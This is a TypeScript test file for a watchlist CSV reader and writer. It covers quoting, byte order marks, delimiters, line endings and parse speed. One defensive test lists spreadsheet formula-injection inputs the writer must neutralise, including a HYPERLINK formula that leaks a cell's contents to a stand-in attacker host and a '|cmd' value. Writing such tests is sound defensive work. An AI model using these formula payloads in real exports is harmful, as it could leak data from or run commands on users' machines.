import { describe, expect, it } from 'vitest';
import { readCsv, writeCsv } from '@/lib/watchlists/csv';

describe('a file for spreadsheets', () => {
  it('begins with a byte order mark, quotes every cell, ends lines by CRLF', () => {
    expect(
      writeCsv([
        ['handle', 'note'],
        ['nasa', 'said "hi", left'],
      ]),
    ).toBe('\ufeff"handle","note"\r\n"nasa","said ""hi"", left"\r\n');
  });

  it.each([
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    "'=1",
    "' =1",
    '＝1',
    '＋1',
    '|cmd',
    '%0A',
  ])('runs nothing: %j', (cell) => {
    const written = writeCsv([[cell]]);
    expect(written.slice(1).startsWith(`"'`)).toBe(true);
    expect(readCsv(written)).toEqual([[cell]]);
  });

  it.each([
    'nasa',
    "it's",
    "'quoted'",
    'a=b',
    '2+2',
    'e-mail@home',
    '',
    '日本',
    'line\nbreak',
    '"',
    '""',
    ',',
  ])('leaves %j as it is', (cell) => {
    const written = writeCsv([['x', cell]]);
    expect(written).toContain(`,"${cell.replaceAll('"', '""')}"`);
    expect(readCsv(written)).toEqual([['x', cell]]);
  });
});

describe('reading a file', () => {
  it.each<[string, string, string[][]]>([
    [
      'commas',
      'a,b\nc,d',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    [
      'semicolons',
      'a;b\r\nc;"d;e"\r\n',
      [
        ['a', 'b'],
        ['c', 'd;e'],
      ],
    ],
    ['tabs', 'a\tb', [['a', 'b']]],
    ['old Macs’ lines', 'a\rb', [['a'], ['b']]],
    ['empty lines', '\n\na\n\n,\n', [['a']]],
    ['breaks within quotes', '"a\r\nb",c', [['a\r\nb', 'c']]],
    ['an open quote', '"a,b', [['a,b']]],
    ['quotes in the middle', 'a"b,c', [['a"b', 'c']]],
    ['nothing', '', []],
    ['a mark alone', '\ufeff', []],
  ])('takes %s', (_what, text, rows) => expect(readCsv(text)).toEqual(rows));

  it.each(['"', ',', '\n', '"",', "'=", 'a'])('stays quick: 512 kB of %j', (piece) => {
    const text = piece.repeat((512 * 1024) / piece.length);
    const startedAt = performance.now();
    readCsv(text);
    expect(performance.now() - startedAt).toBeLessThan(1_500);
  });
});
